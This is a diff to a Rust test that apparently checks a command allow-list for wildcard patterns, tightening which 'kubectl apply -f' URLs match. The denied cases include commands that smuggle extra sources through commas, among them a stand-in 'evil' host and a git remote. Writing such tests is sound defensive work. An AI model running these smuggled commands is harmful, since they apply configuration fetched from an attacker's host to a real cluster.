@@ -648,8 +648,12 @@ fn options_that_lead_elsewhere_must_be_spelled() {
         ),
         (
             "kubectl apply -f https://a/*",
-            &["kubectl apply -f https://a/x", "kubectl apply -f https://a/x,y"],
-            &["kubectl apply -f https://a/x,https://evil/y", "kubectl apply -f https://a/x,y,git@evil:z/w"],
+            &["kubectl apply -f https://a/x", "kubectl apply -f https://a/x/y"],
+            &[
+                "kubectl apply -f https://a/x,y",
+                "kubectl apply -f https://a/x,https://evil/y",
+                "kubectl apply -f https://a/x,y,git@evil:z/w",
+            ],
         ),
         (
             "docker build -t app:1 *",
